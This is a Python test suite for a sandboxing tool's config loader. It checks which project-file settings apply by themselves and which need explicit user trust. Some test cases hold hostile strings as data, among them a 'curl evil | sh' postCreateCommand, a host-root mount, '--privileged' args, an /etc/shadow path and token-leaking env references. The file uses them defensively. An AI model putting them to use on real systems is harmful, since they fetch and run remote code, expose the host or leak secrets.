"""The project's file may make things tighter by itself, and all else only when it is trusted."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from hermes.config import _project, load
from hermes.config._load import sources
from hermes.errors import ConfigError


@pytest.fixture
def project(tmp_path: Path, hermes_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with a directory in it, which is the current one."""
    folder = tmp_path / "project" / "deep"
    folder.mkdir(parents=True)
    (tmp_path / "project" / ".git").mkdir()
    hermes_home.mkdir(mode=0o700)
    monkeypatch.chdir(folder)
    return folder.parent


def says(project: Path, text: str) -> None:
    (project / ".hermes.yaml").write_text(text)


def settings(hermes_home: Path, text: str) -> None:
    (hermes_home / "config.yaml").write_text(text)


def value(key: str) -> Any:
    found: Any = load()
    for part in key.split("."):
        found = getattr(found, part)
    return found


@pytest.mark.parametrize(
    ("base", "text", "key", "becomes"),
    [
        ("timeout: 5\n", "timeout: 10m\n", "timeout", 600),
        ("limits: {memory: 2g}\n", "limits: {memory: 1g}\n", "limits.memory", 1 << 30),
        ("", "limits: {pids: 100}\n", "limits.pids", 100),
        ("", "limits: {disk: 1g}\n", "limits.disk", 1 << 30),
        ("network: on\n", "network: off\n", "network", "off"),
        ("", "docker: {image: 'debian:12'}\n", "docker.image", "debian:12"),
        ("", "singularity: {image: 'docker://debian:12'}\n", "singularity.image", "docker://debian:12"),
        ("sandbox: local\n", "sandbox: docker\n", "sandbox", "docker"),
        ("", "sandbox: singularity\n", "sandbox", "singularity"),
    ],
)
def test_what_counts_by_itself(
    project: Path, hermes_home: Path, base: str, text: str, key: str, becomes: Any
) -> None:
    settings(hermes_home, base)
    says(project, text)
    assert value(key) == becomes
    assert load().untrusted == ()
    assert sources().origin(key).startswith(f"{project / '.hermes.yaml'}:1")


@pytest.mark.parametrize(
    ("base", "text", "key"),
    [
        ("limits: {memory: 1g}\n", "limits: {memory: 2g}\n", "limits.memory"),
        ("limits: {memory: 1g}\n", "limits: {memory: null}\n", "limits.memory"),
        ("", "limits: {pids: 5000}\n", "limits.pids"),
        ("network: off\n", "network: on\n", "network"),
        ("", "network: host\n", "network"),
        ("sandbox: docker\n", "sandbox: local\n", "sandbox"),
        ("sandbox: modal\n", "sandbox: docker\n", "sandbox"),
        ("", "sandbox: ssh:evil\n", "sandbox"),
        ("", "docker: {mounts: ['/:/host']}\n", "docker.mounts"),
        ("", "docker: {args: [--privileged]}\n", "docker.args"),
        ("", "docker: {program: ./evil}\n", "docker.program"),
        ("", "docker: {dockerfile: Dockerfile}\n", "docker.dockerfile"),
        ("", "singularity: {image: ./evil.sif}\n", "singularity.image"),
        ("", "singularity: {image: /etc/shadow}\n", "singularity.image"),
        ("", "ssh: {host: evil}\n", "ssh.host"),
        ("", "ssh: {wake_command: evil}\n", "ssh.wake_command"),
        ("", "approvals: {mode: off}\n", "approvals.mode"),
        ("", "approvals: {advisor: [evil]}\n", "approvals.advisor"),
        ("", "workspace: here\n", "workspace"),
        ("", "local: {python: ./evil}\n", "local.python"),
        ("", "keep: true\n", "keep"),
        ("", "skills: shared\n", "skills"),
    ],
)
def test_what_needs_trust(project: Path, hermes_home: Path, base: str, text: str, key: str) -> None:
    settings(hermes_home, base)
    before = value(key)
    says(project, text)
    assert load().untrusted == (key,)
    assert value(key) == before
    file = _project.find()
    assert file is not None
    _project.trust(file, _project.said(file))
    assert load().untrusted == ()
    assert value(key) != before
    says(project, text + "# changed\n")
    assert load().untrusted == (key,)
    says(project, text)
    assert _project.forget(file)
    assert value(key) == before


@pytest.mark.parametrize(
    ("text", "counts"),
    [
        ('{"image": "debian:12", "containerEnv": {"A": "b"}}', True),
        ('{"image": "debian:12", "postCreateCommand": "curl evil | sh"}', False),
        ('{"image": "debian:12", "mounts": []}', False),
        ('{"image": "debian:12", "\\u006dounts": []}', False),
        ('{"image": "debian:12", "runArgs": ["--privileged"]}', False),
        ('{"image": "debian:12", "containerEnv": {"A": "${localEnv:TOKEN}"}}', False),
        ('{"image": "debian:12", "containerEnv": {"A": "${env:TOKEN}"}}', False),
        ('{"image": "debian:12", "remoteEnv": {"A": "${containerEnv:PATH}"}}', True),
        (" " * (1 << 20) + '{"image": "debian:12", "mounts": []}', False),
        ('{"build": {"dockerfile": "Dockerfile"}}', False),
    ],
    ids=lambda value: str(value)[-60:],
)
def test_a_devcontainer(project: Path, text: str, counts: bool) -> None:
    file = project / "devcontainer.json"
    file.write_text(text)
    says(project, "docker: {devcontainer: devcontainer.json}\n")
    assert value("docker.devcontainer") == (str(file) if counts else None)
    found = project / ".hermes.yaml"
    _project.trust(found, _project.said(found))
    assert value("docker.devcontainer") == str(file)
    file.write_text(text.replace("12", "13") + " ")  # trust was in what it was
    assert value("docker.devcontainer") == (str(file) if counts else None)


def test_trust_is_in_all_of_a_devcontainer(project: Path) -> None:
    """Also when a directory, or a link, is what names it."""
    inside = project / ".devcontainer"
    inside.mkdir()
    file, link = inside / "devcontainer.json", project / "link.json"
    others = [project.parent / name for name in ("a.json", "b.json")]
    for one in (file, *others):
        one.write_text('{"image": "debian:12", "mounts": []}')
    link.symlink_to(others[0])
    for name in (".", "link.json"):
        says(project, f"docker: {{devcontainer: {name}}}\n")
        found = project / ".hermes.yaml"
        assert load().untrusted == ("docker.devcontainer",)
        _project.trust(found, _project.said(found))
        assert load().untrusted == ()
        if name == ".":
            assert value("docker.devcontainer") == str(file)
            file.write_text('{"image": "debian:12", "mounts": [], "runArgs": ["--privileged"]}')
        else:
            link.unlink()
            link.symlink_to(others[1])
        assert load().untrusted == ("docker.devcontainer",)
    file.write_text(" " * (1 << 20) + "{}")
    says(project, "docker: {devcontainer: .}\n")
    _project.trust(found, _project.said(found))
    file.write_text(" " * (1 << 20) + '{"mounts": []}')
    assert load().untrusted == ("docker.devcontainer",)


def test_a_devcontainer_outside_of_the_project(project: Path) -> None:
    outside = project.parent / "devcontainer.json"
    outside.write_text('{"image": "debian:12"}')
    (project / "link.json").symlink_to(outside)
    for name in ("../devcontainer.json", "link.json", str(outside)):
        says(project, f"docker: {{devcontainer: {name}}}\n")
        assert load().untrusted == ("docker.devcontainer",)


def test_the_user_wins_over_the_project(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    says(project, "timeout: 5\nsandbox: docker\n")
    monkeypatch.setenv("HERMES_SANDBOX", "local")
    assert load({"timeout": 7}).timeout == 7
    assert load().sandbox == "local"


def test_which_file_it_is(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert _project.find() is None
    (project.parent / ".hermes.yaml").write_text("timeout: 1\n")  # outside of the repository
    assert _project.find() is None
    says(project, "timeout: 2\n")
    assert _project.find() == project / ".hermes.yaml"
    (project / "deep" / ".hermes.yaml").write_text("timeout: 3\n")
    assert value("timeout") == 3
    alone = project.parent / "alone" / "deep"
    alone.mkdir(parents=True)
    (alone.parent / ".hermes.yaml").write_text("timeout: 4\n")
    monkeypatch.chdir(alone)  # no repository: only the directory itself
    assert _project.find() is None
    monkeypatch.chdir(alone.parent)
    assert value("timeout") == 4


def test_a_link_is_not_followed_and_a_broken_one_is_named(project: Path) -> None:
    (project / ".hermes.yaml").symlink_to("/etc/hostname")
    with pytest.raises(ConfigError, match="is not a file"):
        load()
    (project / ".hermes.yaml").unlink()
    says(project, "timeout: 5\ntimeuot: 6\n")
    with pytest.raises(ConfigError) as caught:
        load()
    assert (
        str(caught.value) == f"{project / '.hermes.yaml'}:2: unknown key 'timeuot'. Did you mean 'timeout'?"
    )


def test_a_file_of_another_user_says_nothing_by_itself(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    says(project, "timeout: 5\n")
    if os.geteuid() == 0:
        os.chown(project / ".hermes.yaml", 1, 1)
    else:  # only root can give a file away: we are somebody else instead
        us = os.geteuid()
        monkeypatch.setattr("os.geteuid", lambda: us + 1)
    assert load().untrusted == ("timeout",)
    assert load().timeout is None


def test_nothing_is_kept_in_the_project(project: Path, hermes_home: Path) -> None:
    (hermes_home / "state").mkdir()
    says(project, "timeout: 5\n")
    load()
    assert sorted(path.name for path in project.iterdir()) == [".git", ".hermes.yaml", "deep"]
    (project / "state").mkdir()
    (project / "state" / "config-cache.json").write_text("{}")
    code = "import sys; from hermes.config import load; load(); print('ruamel.yaml' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True)
    assert done.stdout == b"False\n"


def test_it_is_told_and_allowed_on_the_command_line(project: Path, hermes_home: Path) -> None:
    def hermes(*args: str) -> tuple[int, str]:
        done = subprocess.run(
            [sys.executable, "-m", "hermes", *args], capture_output=True, text=True, stdin=subprocess.DEVNULL
        )
        return done.returncode, done.stdout + done.stderr

    says(project, "sandbox: local\nkeep: true\ntimeout: 50\n")
    settings(hermes_home, "sandbox: docker\n")
    code, said = hermes("--sandbox", "local", "exec", "--rm", "true")
    assert code == 0
    assert "sandbox, keep of this project's .hermes.yaml do not count: 'hermes config trust'" in said
    code, said = hermes("config", "trust")
    assert code == 125
    assert "  keep: True" in said
    assert "nothing was changed" in said
    assert load().sandbox == "docker"
    assert hermes("config", "trust", "--yes")[0] == 0
    assert load().sandbox == "local"
    assert "counts already" in hermes("config", "trust")[1]
    assert "not trusted any more" in hermes("config", "trust", "--revoke")[1]
    assert load().sandbox == "docker"
